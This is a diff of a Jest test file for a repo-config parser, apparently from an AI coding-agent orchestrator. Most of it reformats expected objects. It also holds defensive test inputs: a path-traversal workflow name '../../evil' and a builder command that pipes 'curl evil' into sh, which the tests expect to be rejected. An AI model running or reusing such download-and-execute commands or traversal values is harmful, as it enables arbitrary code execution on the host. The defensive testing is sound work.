@@ -18,8 +18,14 @@ describe('parseRepoConfig', () => {
       expect(ok(text)).toEqual(DEFAULT_REPO_CONFIG);
     }
     expect(DEFAULT_REPO_CONFIG).toMatchObject({
-      budgetCycles: 3, maxCostUsd: 5, testCommand: null, reviewWorkflow: 'damascus-review.yml',
-      ciTimeoutMinutes: 30, mergeStyle: 'merge', requireSpecApproval: false, contextFiles: [],
+      budgetCycles: 3,
+      maxCostUsd: 5,
+      testCommand: null,
+      reviewWorkflow: 'damascus-review.yml',
+      ciTimeoutMinutes: 30,
+      mergeStyle: 'merge',
+      requireSpecApproval: false,
+      contextFiles: [],
       requiredSpecSections: ['Summary', 'Acceptance Criteria', 'Test Command', 'Scope', 'Open Questions'],
       builder: { name: null, maxTurns: 30, timeoutMinutes: 30 },
     });
@@ -43,9 +49,16 @@ context_files:
 allow_catch_all_scope: true
 `);
     expect(c).toEqual({
-      budgetCycles: 5, maxCostUsd: 2.5, requiredSpecSections: ['Summary', 'Acceptance Criteria'],
-      testCommand: 'npm test', reviewWorkflow: 'ci-review.yaml', ciTimeoutMinutes: 90, mergeStyle: 'squash',
-      requireSpecApproval: true, contextFiles: ['docs/ARCHITECTURE.md'], allowCatchAllScope: true,
+      budgetCycles: 5,
+      maxCostUsd: 2.5,
+      requiredSpecSections: ['Summary', 'Acceptance Criteria'],
+      testCommand: 'npm test',
+      reviewWorkflow: 'ci-review.yaml',
+      ciTimeoutMinutes: 90,
+      mergeStyle: 'squash',
+      requireSpecApproval: true,
+      contextFiles: ['docs/ARCHITECTURE.md'],
+      allowCatchAllScope: true,
       builder: { name: 'aider', maxTurns: 12, timeoutMinutes: 30 },
     });
   });
@@ -53,7 +66,11 @@ allow_catch_all_scope: true
   test('allow_catch_all_scope is off unless set to a boolean', () => {
     expect(ok('').allowCatchAllScope).toBe(false);
     expect(ok('merge_style: merge').allowCatchAllScope).toBe(false);
-    expect(parseRepoConfig('allow_catch_all_scope: "yes"')).toEqual({ ok: false, error: expect.stringMatching(/allow_catch_all_scope.*true or false/), line: 1 });
+    expect(parseRepoConfig('allow_catch_all_scope: "yes"')).toEqual({
+      ok: false,
+      error: expect.stringMatching(/allow_catch_all_scope.*true or false/),
+      line: 1,
+    });
   });
 
   test('ci_timeout accepts minutes or durations', () => {
@@ -102,7 +119,7 @@ allow_catch_all_scope: true
     expect(bad('review_workflow: ../../evil').error).toMatch(/workflow file name/);
   });
 
-  test('a repo cannot give its builder a command, a tool list or credentials: those are the operator\'s', () => {
+  test("a repo cannot give its builder a command, a tool list or credentials: those are the operator's", () => {
     // Attack: any writer of any onboarded repo would otherwise run commands on the orchestrator.
     for (const [text, key] of [
       ['builder:\n  command: [sh, -c, "curl evil | sh"]\n', 'command'],
